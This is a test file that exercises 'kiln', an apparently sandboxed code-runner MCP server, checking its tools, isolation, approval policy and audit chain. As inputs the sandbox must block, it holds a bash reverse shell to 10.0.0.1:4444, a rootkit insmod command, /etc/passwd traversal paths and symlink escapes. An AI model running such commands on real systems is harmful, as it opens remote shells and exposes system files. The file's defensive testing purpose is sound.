// End-to-end tests of the agent tools (issue 4) with the official MCP
// TypeScript SDK client over stdio: a real kiln serve, a real jail.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, existsSync, readdirSync, readFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { ElicitRequestSchema } from '@modelcontextprotocol/sdk/types.js';

const KILN = process.env.KILN_BIN;
assert.ok(KILN, 'KILN_BIN must point to the kiln binary');

const stateDir = mkdtempSync(join(tmpdir(), 'kiln-e2e-tools-'));

// Every server shares one state dir and one audit chain, as two editor
// windows launching Kiln with the default configuration would.
// Each client's server process, to check how it ended after close().
const serverOf = new Map();
async function connect({ elicit = null, name = 'e2e-tools', config = [] } = {}) {
  const transport = new StdioClientTransport({
    command: KILN,
    args: ['--set', `server.state_dir=${stateDir}`, '--set', 'server.log_level=warn', ...config, 'serve'],
    stderr: 'pipe',
  });
  const capabilities = elicit ? { elicitation: {} } : {};
  const client = new Client({ name, version: '1.0.0' }, { capabilities });
  if (elicit) client.setRequestHandler(ElicitRequestSchema, elicit);
  await client.connect(transport);
  serverOf.set(client, transport._process);
  return client;
}

// close() ends the server's stdin; a clean shutdown is exit 0 without the
// SIGTERM the SDK sends to a server still alive 2 s later.
async function closeCleanly(c) {
  const proc = serverOf.get(c);
  await c.close();
  if (proc.exitCode === null && proc.signalCode === null) await new Promise((res) => proc.once('exit', res));
  assert.equal(proc.signalCode, null, 'the server ended on its own, not by signal');
  assert.equal(proc.exitCode, 0, 'the server exits 0 after the client closes');
}

// The records of one call, through the CLI an operator would use.
function auditShow(...args) {
  const r = spawnSync(KILN, ['--set', `server.state_dir=${stateDir}`, 'audit', 'show', '--json', ...args], { encoding: 'utf8' });
  assert.equal(r.status, 0, r.stderr);
  return r.stdout.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l));
}

// Checks that audit_id names this call's tool_call record (seq and hash
// prefix) and that every later record of the call carries it as call_id.
// Returns the call's records by event.
function callRecords(auditId, { tool, code }) {
  const m = /^(\d+)-([0-9a-f]{12})$/.exec(auditId);
  assert.ok(m, `audit_id ${auditId} is <seq>-<12 hex>`);
  const recs = auditShow('--id', auditId);
  const call = recs.find((r) => r.event === 'tool_call');
  assert.ok(call, `no tool_call record for ${auditId}: ${JSON.stringify(recs)}`);
  assert.equal(call.seq, Number(m[1]));
  assert.ok(call.hash.startsWith(m[2]), 'the id carries the record\'s hash prefix');
  assert.equal(call.tool, tool);
  if (code !== undefined) assert.equal(call.code, code);
  const later = recs.filter((r) => r !== call);
  for (const r of later) assert.equal(r.call_id, auditId, `${r.event} record carries the call's id`);
  const by = {};
  for (const r of later) by[r.event] = r;
  return by;
}

// audit_ids of calls checked at the end against the log.
const logged = {};

const text = (r) => r.content.filter((c) => c.type === 'text').map((c) => c.text).join('\n');

let client;
before(async () => { client = await connect(); });
after(async () => {
  if (client) await closeCleanly(client);
  rmSync(stateDir, { recursive: true, force: true });
});

test('the tool list holds the agent tools with schemas', async () => {
  const { tools } = await client.listTools();
  const names = tools.map((t) => t.name);
  for (const n of ['run_code', 'run_command', 'assess_code', 'write_file', 'read_file', 'list_files', 'delete_file', 'reset_workspace'])
    assert.ok(names.includes(n), `missing ${n}`);
  for (const t of tools) {
    assert.ok(t.inputSchema && t.outputSchema, `${t.name} schemas`);
    assert.equal(typeof t.annotations.readOnlyHint, 'boolean');
  }
  assert.ok(!names.some((n) => n.startsWith('debug_')), 'diagnostic tools are not registered by default');
  const run = tools.find((t) => t.name === 'run_code');
  assert.ok(run.inputSchema.properties.language.enum.includes('python'));
});

test('write a file, run code that reads it and writes another, list, read back', async () => {
  let r = await client.callTool({ name: 'write_file', arguments: { path: 'data/in.txt', content: 'hello kiln\n' } });
  assert.equal(r.isError, false, text(r));
  const code = "import pathlib\ns = pathlib.Path('data/in.txt').read_text()\nprint(s.upper(), end='')\npathlib.Path('out.txt').write_text(s[::-1])\n";
  r = await client.callTool({ name: 'run_code', arguments: { language: 'python', code } });
  assert.equal(r.isError, false, text(r));
  assert.equal(r.structuredContent.exit_code, 0);
  assert.equal(r.structuredContent.stdout, 'HELLO KILN\n');
  assert.equal(r.structuredContent.decision, 'allow');
  const recs = callRecords(r.structuredContent.audit_id, { tool: 'run_code', code });
  assert.equal(recs.decision?.decision, 'allow');
  assert.equal(recs.execution?.result.exit_code, 0);
  assert.equal(recs.execution?.result.stdout_bytes, 'HELLO KILN\n'.length);
  assert.match(text(r), /^exit 0/);
  r = await client.callTool({ name: 'list_files', arguments: { recursive: true } });
  const paths = r.structuredContent.entries.map((e) => e.path);
  assert.deepEqual(paths.sort(), ['data', 'data/in.txt', 'out.txt'].sort());
  r = await client.callTool({ name: 'read_file', arguments: { path: 'out.txt' } });
  assert.equal(r.structuredContent.content, '\nnlik olleh');
});

test('files written by the tools belong to the session: a run can change them', async () => {
  // write_file and run_code's `files` make files owned by the ids the
  // session's jails map to; a run appends to both.
  let r = await client.callTool({ name: 'write_file', arguments: { path: 'owned/a.txt', content: 'a' } });
  assert.equal(r.isError, false, text(r));
  r = await client.callTool({
    name: 'run_code',
    arguments: {
      language: 'python',
      files: [{ path: 'owned/b.txt', content: 'b' }],
      code: "for n in ('owned/a.txt', 'owned/b.txt'):\n    open(n, 'a').write('+')\nprint(open('owned/a.txt').read(), open('owned/b.txt').read())\n",
    },
  });
  assert.equal(r.isError, false, text(r));
  assert.equal(r.structuredContent.stdout, 'a+ b+\n');
});

test('a non-zero exit is an isError result with the output', async () => {
  const r = await client.callTool({ name: 'run_command', arguments: { command: 'echo oops >&2; exit 3' } });
  assert.equal(r.isError, true);
  assert.equal(r.structuredContent.exit_code, 3);
  assert.equal(r.structuredContent.stderr, 'oops\n');
});

test('a dangerous call is denied with findings, and nothing runs', async () => {
  const r = await client.callTool({
    name: 'run_code',
    arguments: { language: 'bash', code: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\ntouch /workspace/ran\n' },
  });
  assert.equal(r.isError, true);
  assert.equal(r.structuredContent.decision, 'deny');
  assert.ok(r.structuredContent.findings.some((f) => f.threat === 'T005'), JSON.stringify(r.structuredContent.findings));
  assert.equal(r.structuredContent.exit_code, null);
  logged.denied = r.structuredContent.audit_id;
  const l = await client.callTool({ name: 'list_files', arguments: {} });
  assert.ok(!l.structuredContent.entries.some((e) => e.path === 'ran'));
});

test('an attack signature is not mitigated away: loading a kernel module is refused though the jail would hold it', async () => {
  const r = await client.callTool({
    name: 'run_command',
    arguments: { command: 'insmod /workspace/rootkit.ko; touch /workspace/ran' },
  });
  // balanced asks; this client offers no elicitation, so the policy's fallback refuses.
  assert.equal(r.isError, true);
  assert.notEqual(r.structuredContent.decision, 'allow');
  const sig = r.structuredContent.findings.filter((f) => f.attack_signature === true);
  assert.ok(sig.length > 0, JSON.stringify(r.structuredContent.findings));
  assert.match(text(r), /attack signature/);
  const l = await client.callTool({ name: 'list_files', arguments: {} });
  assert.ok(!l.structuredContent.entries.some((e) => e.path === 'ran'));
});

test('assess_code returns the validator contract and runs nothing', async () => {
  const r = await client.callTool({ name: 'assess_code', arguments: { language: 'python', code: "import os\nos.system(input())\n" } });
  assert.equal(r.isError, false);
  // High risk (a command from input): balanced asks.
  assert.equal(r.structuredContent.decision, 'ask');
  assert.ok(r.structuredContent.findings.some((f) => f.threat === 'T002'));
  assert.equal(r.structuredContent.threats.length, 5);
});

test('assess_code judges a shell-out by its command and names the wrapping', async () => {
  const r = await client.callTool({ name: 'assess_code', arguments: { language: 'python', code: "import os\nos.system('ls; insmod /tmp/x.ko')\n" } });
  assert.equal(r.isError, false);
  const inner = r.structuredContent.findings.find((f) => f.rule === 'sh.kernel-surface');
  assert.ok(inner, JSON.stringify(r.structuredContent.findings));
  assert.equal(inner.line, 2);
  assert.equal(inner.column, 16);
  assert.match(inner.message, /os\.system\(\)/);
  assert.match(text(r), /sh\.kernel-surface .*os\.system\(\)/);
});

test('an ordinary shell-out runs under balanced without asking', async () => {
  const r = await client.callTool({ name: 'run_code', arguments: { language: 'python', code: "import subprocess\nprint(subprocess.run(['echo','ran'],capture_output=True,text=True).stdout, end='')\n" } });
  assert.equal(r.isError, false, text(r));
  assert.equal(r.structuredContent.decision, 'allow');
  assert.equal(r.structuredContent.stdout, 'ran\n');
});

test('approval through elicitation: approve once runs the code', async () => {
  const asked = [];
  const c = await connect({
    name: 'e2e-elicit',
    elicit: async (req) => { asked.push(req.params.message); return { action: 'accept', content: { choice: 'approve_once' } }; },
  });
  try {
    // A shell command taken from the environment is high risk: balanced asks for approval.
    const r = await c.callTool({ name: 'run_code', arguments: { language: 'python', code: "import os, subprocess\nprint(subprocess.run(os.environ.get('E2E_CMD', 'echo approved'),shell=True,capture_output=True,text=True).stdout, end='')\n" } });
    assert.equal(asked.length, 1, 'the user was asked once');
    assert.equal(r.structuredContent.decision, 'approved', text(r));
    assert.equal(r.structuredContent.stdout, 'approved\n');
    logged.approved = r.structuredContent.audit_id;
  } finally { await closeCleanly(c); }
});

test('without elicitation, ask falls back to deny and says how to approve', async () => {
  const r = await client.callTool({ name: 'run_code', arguments: { language: 'python', code: "import os, subprocess\nsubprocess.run(os.environ.get('E2E_CMD', 'true'), shell=True)\n" } });
  assert.equal(r.isError, true);
  assert.match(text(r), /kiln trust add --sha256 [0-9a-f]{64}/);
});

test('a timeout kills the run and says so', async () => {
  const r = await client.callTool({ name: 'run_code', arguments: { language: 'python', code: 'import time\ntime.sleep(30)\n', timeout_seconds: 1 } });
  assert.equal(r.isError, true);
  assert.equal(r.structuredContent.timed_out, true);
  assert.match(text(r), /^timed out/);
});

test('an out-of-memory run is reported as oom_killed', async () => {
  const r = await client.callTool({
    name: 'run_code',
    arguments: { language: 'python', code: "b = []\nwhile True:\n    b.append(bytearray(8 << 20))\n", memory_mb: 64 },
  });
  assert.equal(r.isError, true);
  assert.equal(r.structuredContent.oom_killed, true, text(r));
});

test('progress notifications arrive during a long run', async () => {
  const seen = [];
  const r = await client.callTool(
    { name: 'run_code', arguments: { language: 'sh', code: 'for i in 1 2 3 4; do echo $i; sleep 0.5; done' } },
    undefined,
    { onprogress: (p) => seen.push(p.progress), resetTimeoutOnProgress: true },
  );
  assert.equal(r.structuredContent.exit_code, 0);
  assert.ok(seen.length >= 2, `progress count ${seen.length}`);
  for (let i = 1; i < seen.length; i++) assert.ok(seen[i] > seen[i - 1]);
});

// The jail's program is found by a number no other process has in its
// command line; a server with one call slot must have freed it.
const procsWith = (marker) => readdirSync('/proc').filter((p) => /^\d+$/.test(p)).filter((p) => {
  try { return readFileSync(`/proc/${p}/cmdline`, 'utf8').includes(marker); } catch { return false; }
});
async function waitFor(pred, ms) {
  const until = Date.now() + ms;
  while (!pred() && Date.now() < until) await new Promise((res) => setTimeout(res, 25));
  return pred();
}

test('cancellation kills the jail at once', async () => {
  const c = await connect({ name: 'e2e-cancel', config: ['--set', 'server.max_inflight_calls=1'] });
  try {
    const marker = `61.${process.pid}${Date.now() % 100000}`;
    const ac = new AbortController();
    const p = c.callTool({ name: 'run_command', arguments: { command: `exec sleep ${marker}`, timeout_seconds: 90 } },
      undefined, { signal: ac.signal });
    p.catch(() => {});
    assert.ok(await waitFor(() => procsWith(marker).length > 0, 15000), 'the jail\'s sleep never started');
    const cancelled = Date.now();
    ac.abort('test cancel');
    await assert.rejects(p);
    assert.ok(await waitFor(() => procsWith(marker).length === 0, 2000),
      `the jail's program still runs 2 s after the cancellation: pids ${procsWith(marker)}`);
    // The one slot is free again within the same bound: a second call runs
    // (a refusal names server.max_inflight_calls; teardown may still be
    // finishing for a moment after the program died).
    let r;
    for (;;) {
      r = await c.callTool({ name: 'run_command', arguments: { command: 'echo after' } });
      if (!/max_inflight_calls/.test(text(r)) || Date.now() - cancelled > 2000) break;
      await new Promise((res) => setTimeout(res, 50));
    }
    assert.equal(r.isError, false, text(r));
    assert.equal(r.structuredContent.stdout, 'after\n');
    assert.ok(Date.now() - cancelled < 5000, `${Date.now() - cancelled} ms from cancel to the next answer`);
  } finally { await closeCleanly(c); }
});

test('traversal attempts fail on every file tool', async () => {
  for (const path of ['../../etc/passwd', '/etc/passwd', 'a/../../x']) {
    for (const [name, extra] of [['read_file', {}], ['write_file', { content: 'x' }], ['delete_file', {}], ['list_files', {}]]) {
      const r = await client.callTool({ name, arguments: { path, ...extra } });
      assert.equal(r.isError, true, `${name} ${path}: ${text(r)}`);
    }
  }
  // A symlink to /etc made by code inside the jail, then read through read_file.
  let r = await client.callTool({ name: 'run_command', arguments: { command: 'ln -s /etc etclink && ln -s /etc/passwd pw && ls -l' } });
  assert.equal(r.structuredContent.exit_code, 0, text(r));
  for (const path of ['etclink/passwd', 'pw']) {
    r = await client.callTool({ name: 'read_file', arguments: { path } });
    assert.equal(r.isError, true, `read ${path} must fail: ${text(r)}`);
    assert.match(text(r), /outside the workspace/);
  }
  r = await client.callTool({ name: 'write_file', arguments: { path: 'etclink/kiln-evil', content: 'x' } });
  assert.equal(r.isError, true);
  assert.ok(!existsSync('/etc/kiln-evil'));
});

test('two sessions cannot see each other\'s files', async () => {
  const other = await connect({ name: 'e2e-other' });
  try {
    await client.callTool({ name: 'write_file', arguments: { path: 'mine.txt', content: 'secret' } });
    let r = await other.callTool({ name: 'read_file', arguments: { path: 'mine.txt' } });
    assert.equal(r.isError, true);
    r = await other.callTool({ name: 'run_command', arguments: { command: 'ls -A /workspace; cat /workspace/mine.txt 2>&1; true' } });
    assert.doesNotMatch(r.structuredContent.stdout, /secret/);
  } finally { await closeCleanly(other); }
});

test('runs of one session share a loopback (root server); another session never reaches it', async () => {
  const other = await connect({ name: 'e2e-net-other' });
  try {
    const port = 47000 + Math.floor(Math.random() * 1000);
    const listening = client.callTool({ name: 'run_code', arguments: { language: 'python', timeout_seconds: 30, code:
      `import socket\ns = socket.socket(); s.bind(('127.0.0.1', ${port})); s.listen(1)\n` +
      `open('/workspace/listening', 'w').close()\ns.settimeout(10)\n` +
      `try:\n    s.accept(); print('accepted')\nexcept OSError:\n    print('nobody came')\n` } });
    let ready = false;
    for (let i = 0; i < 300 && !ready; i++) {
      ready = !(await client.callTool({ name: 'read_file', arguments: { path: 'listening' } })).isError;
      if (!ready) await new Promise((res) => setTimeout(res, 50));
    }
    assert.ok(ready, 'the listener never started');
    const dial = `import socket\ntry:\n    socket.create_connection(('127.0.0.1', ${port}), 2); print('connected')\n` +
      `except OSError as e:\n    print('refused')\n`;
    let r = await other.callTool({ name: 'run_code', arguments: { language: 'python', code: dial } });
    assert.equal(r.structuredContent.stdout, 'refused\n');
    r = await client.callTool({ name: 'run_code', arguments: { language: 'python', code: dial } });
    // A root server shares the namespace within a session; a rootless one makes one per run.
    const shared = process.getuid() === 0;
    assert.equal(r.structuredContent.stdout, shared ? 'connected\n' : 'refused\n');
    r = await listening;
    assert.equal(r.structuredContent.stdout, shared ? 'accepted\n' : 'nobody came\n');
    await client.callTool({ name: 'delete_file', arguments: { path: 'listening' } });
  } finally { await closeCleanly(other); }
});

test('bad input names the field and the allowed range', async () => {
  let r = await client.callTool({ name: 'run_code', arguments: { language: 'cobol', code: 'x' } });
  assert.equal(r.isError, true);
  assert.match(text(r), /'language' must be one of/);
  r = await client.callTool({ name: 'run_code', arguments: { language: 'python', code: 'pass', timeout_seconds: 100000 } });
  assert.equal(r.isError, true);
  assert.match(text(r), /timeout_seconds' must be from 1 to \d+/);
  r = await client.callTool({ name: 'run_code', arguments: { language: 'python' } });
  assert.equal(r.isError, true);
  assert.match(text(r), /'code' is required/);
});

test('resources: policy, threat model, recent audit', async () => {
  const { resources } = await client.listResources();
  const uris = resources.map((r) => r.uri).sort();
  assert.deepEqual(uris, ['kiln://audit/recent', 'kiln://policy', 'kiln://threat-model']);
  const tm = JSON.parse((await client.readResource({ uri: 'kiln://threat-model' })).contents[0].text);
  assert.equal(tm.threats.length, 5);
  assert.equal(tm.controls.length, 13);
  // The call just made is among this session's recent records, without its code.
  const r = await client.callTool({ name: 'run_command', arguments: { command: 'echo recent' } });
  const id = r.structuredContent.audit_id;
  const recent = JSON.parse((await client.readResource({ uri: 'kiln://audit/recent' })).contents[0].text);
  assert.ok(recent.length > 0 && recent.length <= 50, `${recent.length} records`);
  // The resource holds the fields as logged, without seq: the call's later
  // records carry its id, its tool_call is the one just before them.
  const exec = recent.findIndex((x) => x.event === 'execution' && x.call_id === id);
  assert.ok(exec > 0, `the call ${id} is not in kiln://audit/recent`);
  const call = recent.slice(0, exec).findLast((x) => x.event === 'tool_call');
  assert.equal(call?.tool, 'run_command');
  assert.ok(!('code' in call), 'code is omitted');
  assert.equal(recent[recent.length - 1], recent[exec], 'the newest record is last');
  assert.ok(recent.every((x) => x.session_id === call.session_id), 'only this session\'s records');
});

test('when a server ends, its workspaces are gone and the others stay', async () => {
  const c = await connect({ name: 'e2e-cleanup' });
  await c.callTool({ name: 'write_file', arguments: { path: 'x', content: 'y' } });
  const root = join(stateDir, 'workspaces');
  const before = readdirSync(root);
  assert.equal(before.length, 2, `one workspace directory per live server: ${before}`);
  await closeCleanly(c);
  await new Promise((r) => setTimeout(r, 500));
  assert.equal(readdirSync(root).length, 1);
  const mounts = (await import('node:fs')).readFileSync('/proc/self/mounts', 'utf8');
  assert.equal(mounts.split('\n').filter((l) => l.includes(root)).length, 1, 'only the live server\'s workspace is mounted');
});

test('every call above left an intact audit chain', async () => {
  const v = spawnSync(KILN, ['--set', `server.state_dir=${stateDir}`, 'audit', 'verify'], { encoding: 'utf8' });
  assert.equal(v.status, 0, v.stdout + v.stderr);
  const show = spawnSync(KILN, ['--set', `server.state_dir=${stateDir}`, 'audit', 'show', '--json', '--event', 'execution'], { encoding: 'utf8' });
  assert.equal(show.status, 0, show.stderr);
  const execs = show.stdout.trim().split('\n').map((l) => JSON.parse(l));
  assert.ok(execs.some((r) => r.result?.timed_out === true), 'the timeout is in the log');
  assert.ok(execs.some((r) => r.result?.cancelled === true), 'the cancellation is in the log');
  // The denied call: its decision, and nothing ran.
  let recs = callRecords(logged.denied, { tool: 'run_code' });
  assert.equal(recs.decision?.decision, 'deny');
  assert.equal(recs.execution, undefined, 'a denied call has no execution record');
  // The approved call: asked, approved by the user, then run.
  recs = callRecords(logged.approved, { tool: 'run_code' });
  assert.equal(recs.decision?.decision, 'approved');
  assert.equal(recs.execution?.result.exit_code, 0);
});

// The limits kiln://policy shows are the ones a run's jail gets, for every
// preset: RLIMIT_NPROC is pids + 1, and the strict seccomp profile stacks a
// second filter.
test('every policy preset reaches the jail through kiln serve', async () => {
  const presets = {
    permissive: { memory_bytes: 1024 << 20, pids: 256, seccomp: 'default' },
    balanced: { memory_bytes: 256 << 20, pids: 64, seccomp: 'default' },
    strict: { memory_bytes: 256 << 20, pids: 32, seccomp: 'default' },
    paranoid: { memory_bytes: 128 << 20, pids: 16, seccomp: 'strict' },
  };
  for (const [preset, want] of Object.entries(presets)) {
    const c = await connect({ name: `e2e-${preset}`, config: ['--set', `policy.preset=${preset}`] });
    try {
      const policy = JSON.parse((await c.readResource({ uri: 'kiln://policy' })).contents[0].text);
      assert.equal(policy.name, preset);
      for (const key of ['memory_bytes', 'pids', 'seccomp']) assert.equal(policy[key], want[key], `${preset} ${key}`);
      // Python, not a shell: under the strict profile /bin/sh cannot fork.
      const code = "print(open('/proc/self/limits').read() + open('/proc/self/status').read())";
      const r = await c.callTool({ name: 'run_code', arguments: { language: 'python', code } });
      assert.equal(r.structuredContent.exit_code, 0, text(r));
      const inside = r.structuredContent.stdout;
      assert.match(inside, new RegExp(`Max processes +${want.pids + 1} `), `${preset}: ${inside}`);
      assert.match(inside, want.seccomp === 'strict' ? /Seccomp_filters:\t2\n/ : /Seccomp_filters:\t1\n/, preset);
    } finally {
      await closeCleanly(c);
    }
  }
});
